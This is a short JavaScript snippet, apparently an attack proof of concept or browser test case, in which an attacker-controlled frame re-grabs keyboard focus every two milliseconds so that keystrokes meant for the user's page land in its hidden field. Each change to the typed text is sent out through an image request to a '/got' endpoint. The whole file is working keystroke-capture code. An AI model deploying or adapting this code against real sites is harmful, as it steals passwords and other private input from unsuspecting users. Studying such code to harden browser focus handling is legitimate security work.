// The attacker's frame takes the keyboard focus over and over, to be focused when real
// (trusted) keys arrive for the user's page, and sends home what they type.
const sink = document.getElementById('sink');
setInterval(() => { if (document.activeElement !== sink || !document.hasFocus()) { window.focus(); sink.focus(); } }, 2);
let reported = '';
const tell = () => {
  if (sink.value !== reported) { reported = sink.value; new Image().src = `/got?v=${encodeURIComponent(sink.value)}`; }
};
sink.addEventListener('input', tell);
sink.addEventListener('keyup', tell);
